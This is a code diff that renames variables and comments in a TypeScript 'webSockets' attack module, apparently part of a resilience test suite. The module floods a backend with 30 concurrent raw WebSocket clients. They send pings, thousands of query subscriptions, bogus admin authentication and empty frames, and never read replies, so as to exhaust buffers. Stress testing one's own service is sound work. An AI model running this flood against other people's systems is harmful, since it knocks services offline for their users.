@@ -1,10 +1,10 @@
-/** WebSockets that send pings, questions and thousands of queries at once, and read nothing. */
+/** WebSockets that send pings, messages and thousands of queries at once, and never read. */
 import { randomBytes } from "node:crypto";
 import type { Attack } from "./attack";
 import { open, sent } from "./connections";
 
-/** At a time. */
-const SIDES = 30;
+/** Connections at the same time. */
+const CLIENTS = 30;
 const FRAMES = 200;
 
 const handshake = () =>
@@ -14,7 +14,7 @@ const handshake = () =>
 const PING = 9;
 const TEXT = 1;
 
-/** A frame as a client sends it, masked with zeros. */
+/** Returns a client's frame, masked with zeros (RFC 6455, section 5.2). */
 function frame(opcode: number, text: string): Buffer {
   const payload = Buffer.from(text);
   const size = Buffer.alloc(payload.length < 126 ? 1 : 9);
@@ -26,8 +26,8 @@ function frame(opcode: number, text: string): Buffer {
   return Buffer.concat([Buffer.from([0x80 | opcode]), size, Buffer.alloc(4), payload]);
 }
 
-/** Asks for so many queries in one message. */
-function question(count: number): string {
+/** Returns one message that subscribes to this number of queries. */
+function subscribe(count: number): string {
   const modifications = Array.from({ length: count }, (_, queryId) => ({
     ...{ type: "Add", queryId, udfPath: "_system/cli/tables", args: [{}] },
   }));
@@ -36,13 +36,13 @@ function question(count: number): string {
 
 const authenticate = { type: "Authenticate", tokenType: "Admin", baseVersion: 0, value: "wrong" };
 
-/** What the sides send, again and again. */
+/** The bytes that the clients send repeatedly. */
 const FLOODS: readonly Buffer[] = [
   repeated(frame(PING, "p".repeat(125)), FRAMES),
-  repeated(frame(TEXT, question(1)), FRAMES),
-  repeated(frame(TEXT, question(500)), 4),
+  repeated(frame(TEXT, subscribe(1)), FRAMES),
+  repeated(frame(TEXT, subscribe(500)), 4),
   repeated(frame(TEXT, JSON.stringify(authenticate)), FRAMES),
-  frame(TEXT, question(18_000).slice(0, 1_000_000)),
+  frame(TEXT, subscribe(18_000).slice(0, 1_000_000)),
   repeated(frame(TEXT, "{}"), 20_000),
 ];
 
@@ -52,19 +52,19 @@ function repeated(bytes: Buffer, count: number): Buffer {
 
 export const webSockets: Attack = {
   name: "webSockets",
-  about: `${SIDES} WebSockets at a time that send on and on and read nothing`,
+  about: `${CLIENTS} WebSockets at a time that send continuously and never read`,
   async run({ apiUrl }, until) {
     let connections = 0;
     let bytes = 0;
     const opened = new Set<ReturnType<typeof open>>();
-    const side = async (first: number) => {
+    const client = async (first: number) => {
       for (let i = first; performance.now() < until; i++) {
         const socket = open(apiUrl);
         opened.add(socket);
         connections++;
         const flood = FLOODS[i % FLOODS.length] as Buffer;
         await sent(socket, handshake());
-        // The answers are not read: they wait in this system, then in the server.
+        // Unread answers fill the buffers of the operating system, then those of the server.
         while (performance.now() < until && (await sent(socket, flood))) bytes += flood.length;
         socket.destroy();
         opened.delete(socket);
@@ -73,7 +73,7 @@ export const webSockets: Attack = {
     const end = setTimeout(() => {
       for (const socket of opened) socket.destroy();
     }, until - performance.now());
-    await Promise.all(Array.from({ length: SIDES }, (_, i) => side(i)));
+    await Promise.all(Array.from({ length: CLIENTS }, (_, i) => client(i)));
     clearTimeout(end);
     return { connections, megabytes: Math.round(bytes / 1e6) };
   },
